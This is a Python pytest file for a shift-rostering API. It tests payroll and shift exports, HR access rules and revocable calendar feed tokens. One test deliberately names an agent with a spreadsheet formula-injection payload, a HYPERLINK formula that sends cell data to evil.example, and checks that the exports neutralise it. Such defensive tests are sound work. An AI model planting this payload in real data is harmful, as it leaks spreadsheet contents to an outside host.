"""Exports through the API on a real 2-second solve of the spec example (the session's
``solved_spec``, copied for each test): payroll hours
as CSV and XLSX, the shift list, hr's access before and after publishing, and an
agent's calendar subscription (issue, read with a calendar library, revoke, rotate)."""

from __future__ import annotations

import csv
import io
from collections import defaultdict
from datetime import UTC, datetime

import pytest
from icalendar import Calendar
from openpyxl import load_workbook

from tests.api.conftest import bearer, publish, solved_draft

EXPORTS = ("hours.csv", "hours.xlsx", "shifts.csv")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def utc(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


def shift_hours_by_agent(assignments: list[dict]) -> dict[str, float]:
    totals: dict[str, float] = defaultdict(float)
    for shift in assignments:
        span = utc(shift["end_utc"]) - utc(shift["start_utc"])
        totals[shift["agent_id"]] += span.total_seconds() / 3600
    return totals


def test_hours_and_shift_exports_for_payroll(client, tokens, on_solved_spec):
    planner, hr = bearer(tokens["planner"]), bearer(tokens["hr"])
    roster = on_solved_spec.draft(client, planner)
    version_id = roster["version"]["id"]

    for name in EXPORTS:
        assert client.get(f"/api/v1/rosters/{version_id}/{name}", headers=hr).status_code == 403
    publish(client, planner, roster)

    answers = {
        name: client.get(f"/api/v1/rosters/{version_id}/{name}", headers=hr) for name in EXPORTS
    }
    for name, answer in answers.items():
        assert answer.status_code == 200, (name, answer.data[:200])
        stem, suffix = name.split(".")
        expected = f'attachment; filename="{stem}-v{version_id}.{suffix}"'
        assert answer.headers["Content-Disposition"] == expected
    assert answers["hours.csv"].mimetype == answers["shifts.csv"].mimetype == "text/csv"
    assert answers["hours.xlsx"].mimetype == XLSX_TYPE

    workbook = load_workbook(io.BytesIO(answers["hours.xlsx"].data))
    site_sheets = workbook.worksheets[1:-2]
    assert workbook.sheetnames[0] == "Roster" and workbook.sheetnames[-2:] == [
        "Agent totals",
        "Shifts",
    ]
    assert len(site_sheets) == 5
    worked: dict[str, float] = defaultdict(float)
    for sheet in site_sheets:
        header, *rows = sheet.iter_rows(values_only=True)
        column = {title: index for index, title in enumerate(header)}
        assert rows, sheet.title
        assert len({row[column["Site"]] for row in rows}) == 1, "one site per sheet"
        for row in rows:
            assert isinstance(row[column["Worked hours"]], int | float)
            assert isinstance(row[column["Shifts"]], int)
            worked[row[column["Agent ID"]]] += row[column["Worked hours"]]
    expected_hours = shift_hours_by_agent(roster["assignments"])
    assert expected_hours and set(expected_hours) <= set(worked)
    for agent_id, hours in worked.items():
        assert hours == pytest.approx(expected_hours.get(agent_id, 0.0), abs=1e-6), agent_id

    hours_rows = list(csv.DictReader(io.StringIO(answers["hours.csv"].get_data(as_text=True))))
    csv_hours: dict[str, float] = defaultdict(float)
    for row in hours_rows:
        csv_hours[row["agent_id"]] += float(row["worked_hours"])
    assert csv_hours == pytest.approx(dict(worked))
    shift_rows = list(csv.DictReader(io.StringIO(answers["shifts.csv"].get_data(as_text=True))))
    assert len(shift_rows) == roster["total"]


def test_an_agent_subscribes_to_his_published_shifts(client, tokens, on_solved_spec):
    planner, agent = bearer(tokens["planner"]), bearer(tokens["agent"])
    roster = on_solved_spec.draft(client, planner)
    publish(client, planner, roster)

    issued = client.post("/api/v1/me/calendar-token", headers=agent)
    assert issued.status_code == 200, issued.json
    url = issued.json["url"]
    assert url.startswith("http://localhost/ical/") and url.endswith(".ics")

    feed = client.get(url)
    assert feed.status_code == 200
    assert feed.content_type == "text/calendar; charset=utf-8"
    calendar = Calendar.from_ical(feed.data)
    events = [e for e in calendar.walk("VEVENT") if str(e["UID"]).startswith("shift-")]
    mine = [a for a in roster["assignments"] if a["agent_id"] == "A0001"]
    assert mine, "the spec example gives A0001 shifts"
    assert sorted((e.decoded("DTSTART"), e.decoded("DTEND")) for e in events) == sorted(
        (utc(a["start_utc"]), utc(a["end_utc"])) for a in mine
    )
    assert all(e.decoded("DTSTART").tzinfo is not None for e in events)
    assert all(e.decoded("DTSTART").utcoffset() == UTC.utcoffset(None) for e in events)


def test_calendar_urls_are_revoked_and_rotated(client, tokens):
    agent = bearer(tokens["agent"])
    first = client.post("/api/v1/me/calendar-token", headers=agent).json["url"]
    assert client.get(first).status_code == 200, "a feed without published rosters is empty"

    second = client.post("/api/v1/me/calendar-token", headers=agent).json["url"]
    assert second != first
    assert client.get(second).status_code == 200
    stale = client.get(first)
    assert stale.status_code == 404 and stale.json["error"] == "not_found"

    assert client.delete("/api/v1/me/calendar-token", headers=agent).status_code == 204
    assert client.get(second).status_code == 404
    assert client.get("/ical/never-issued.ics").status_code == 404


def test_an_agent_named_like_a_formula_stays_text_in_every_export(
    client, tokens, spec_example_dir, tmp_path
):
    planner = bearer(tokens["planner"])
    name = '=HYPERLINK("https://evil.example/?d="&A1,"Open payslip")'
    agents = (spec_example_dir / "agents.csv").read_text(encoding="utf-8")
    quoted = '"' + name.replace('"', '""') + '"'
    agents = agents.replace("A0001,Agent 0001,", f"A0001,{quoted},", 1)
    folder = tmp_path / "hostile"
    folder.mkdir()
    for path in spec_example_dir.iterdir():
        (folder / path.name).write_bytes(path.read_bytes())
    (folder / "agents.csv").write_text(agents, encoding="utf-8")
    version_id = solved_draft(client, planner, folder)["version"]["id"]

    def export(what: str):
        answer = client.get(f"/api/v1/rosters/{version_id}/{what}", headers=planner)
        assert answer.status_code == 200, answer.data[:200]
        return answer

    workbook = load_workbook(io.BytesIO(export("hours.xlsx").data))
    names = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(2):
            assert all(cell.data_type != "f" for cell in row), sheet.title
            names.update(cell.value for cell in row if cell.value == name)
    assert names == {name}
    for what in ("hours.csv", "shifts.csv"):
        rows = csv.DictReader(io.StringIO(export(what).get_data(as_text=True)))
        assert {r["agent_name"] for r in rows if r["agent_id"] == "A0001"} == {"'" + name}
